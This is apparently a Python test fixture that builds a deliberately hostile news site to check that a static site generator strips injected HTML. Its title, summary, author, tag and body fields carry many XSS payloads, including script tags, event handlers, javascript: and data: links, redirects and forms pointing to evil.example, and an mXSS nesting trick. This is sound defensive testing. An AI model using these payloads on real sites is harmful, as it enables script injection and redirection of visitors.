"""A newsroom written by an attacker: HTML in every front-matter field and in a body.

Shared by tests/redteam/test_markup.py (the built HTML) and tests/browser/test_redteam_markup.py
(the same site in Chromium behind nginx). Every injected element carries the class or text
`pwn`, so finding one in a page means the markup got through.
"""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

from tests.sitekit import COLUMNS, NOW, article, congress, make_site

# The one host the hostile site's mkdocs.yml allows: the sample's, so that deploy/nginx.conf's
# frame-src agrees when the browser tests serve it.
FRAME_HOST = "media.shilirenda.gov.cn"


def short(field: str) -> str:
    """The markup that fits a title (200 characters at most)."""
    return (
        f"{field}<script>alert(1)</script><img src=x onerror=alert(2) class=pwn>"
        '<meta http-equiv=refresh content="0;url=//evil.example/">'
        "<base href=//evil.example/><svg onload=alert(3) class=pwn>"
    )


def payload(field: str) -> str:
    """The markup an attacker writes into `field`."""
    return (
        f'<script>alert("pwn-{field}")</script>'
        f'<img src=x onerror=alert("pwn-{field}") class=pwn>'
        '<meta http-equiv="refresh" content="0;url=https://evil.example/pwn">'
        '<base href="https://evil.example/">'
        '<a href="javascript:alert(1)" class=pwn>pwn</a>'
        '<iframe src="https://evil.example/pwn" class=pwn></iframe>'
        f'<svg onload=alert("pwn-{field}") class=pwn></svg>'
        '<script src="/assets/pwn.js"></script>'
    )


SVG_DATA = base64.b64encode(b"<svg onload=alert(1)></svg>").decode()

BODY = f"""正文第一段。

## 小标题

<script>alert("pwn-body")</script>
<img src="x" onerror="alert('pwn-body')">
<p onclick="alert('pwn')" onmouseover="alert('pwn')">悬停段落</p>
<a href="javascript:alert('pwn')">脚本链接</a>
<a href="JaVaScRiPt&colon;alert('pwn')">编码的脚本链接</a>
<a href="vbscript:msgbox('pwn')">vb 链接</a>
<a href="data:text/html;base64,{SVG_DATA}">数据链接</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/pwn">
<base href="https://evil.example/">
<form action="https://evil.example/pwn"><input name="pwn" class="pwn"><button>提交</button></form>
<object data="https://evil.example/pwn.swf" class="pwn"></object>
<embed src="https://evil.example/pwn.swf" class="pwn">
<iframe src="https://evil.example/pwn" class="pwn"></iframe>
<iframe src="http://{FRAME_HOST}/v/plain-http" class="pwn"></iframe>
<iframe src="https://{FRAME_HOST}/v/1" width="640" height="360"></iframe>
<svg onload="alert('pwn-body')" class="pwn"><circle r="5"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('pwn-mxss')></style>
</mglyph></table></mtext></math>
<script src="../../../assets/pwn.js"></script>
<style>body {{ display: none }}</style>

正文第二段。
"""


def hostile_site(root: Path, site_url: str = "https://www.example.gov.cn/") -> Path:
    """Every page kind with markup in every field; built with `congress build`."""
    columns = [*COLUMNS, {"id": "zqyj", "name": "征求意见", "kind": "consultation"}]
    p = payload
    main = article(
        BODY,
        uid="2026-1120-a00001",
        title=short("title"),
        summary=p("summary"),
        authors=[p("author")],
        source=p("source"),
        tags=["测试", short("tag")],
        cover={"src": "../../assets/cover.png", "alt": p("cover-alt")},
        corrections=[{"at": "2026-11-21T09:00:00+08:00", "note": p("correction")}],
    )
    consultation: dict[str, Any] = {
        "deadline": "2026-12-20T17:00:00+08:00",
        "channels": {"email": "fgw@example.gov.cn", "post": p("post")},
    }
    asking = article(
        uid="2026-1121-a00002",
        title=short("consult"),
        column="zqyj",
        kind="consultation",
        date="2026-11-21T10:00:00+08:00",
        consultation=consultation,
    )
    gone = article(
        uid="2026-1110-a00003",
        title=short("gone"),
        date="2026-11-10T10:00:00+08:00",
        withdrawn={"at": "2026-11-25T10:00:00+08:00", "reason": p("withdrawn-reason")},
    )
    make_site(
        root,
        {
            "news/2026/main.md": main,
            "zqyj/2026/asking.md": asking,
            "news/2026/gone.md": gone,
        },
        columns=columns,
        assets={"assets/cover.png": PNG},
        embeds={"frame_hosts": [FRAME_HOST]},
    )
    # As the sample site is configured: no web fonts from another origin (the CSP refuses them).
    config = (root / "mkdocs.yml").read_text(encoding="utf-8")
    config = config.replace("  language: zh\n", "  language: zh\n  font: false\n", 1)
    config = config.replace("site_url: https://www.example.gov.cn/", f"site_url: {site_url}", 1)
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    return root


def build(root: Path, *extra: str) -> None:
    result = congress("build", "--now", NOW, *extra, cwd=root)
    assert result.returncode == 0, result.stderr


# The smallest valid PNG (1×1, transparent).
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)

# Page kinds, by their path in the built site.
PAGE_KINDS = {
    "home": "index.html",
    "article": "news/2026/main/index.html",
    "consultation": "zqyj/2026/asking/index.html",
    "withdrawn": "news/2026/gone/index.html",
    "column": "news/index.html",
    "tags": "tags/index.html",
    "archive": "archive/index.html",
    "year": "archive/2026/index.html",
    "feeds": "feeds/index.html",
    "search": "search/index.html",
    "404": "404.html",
}
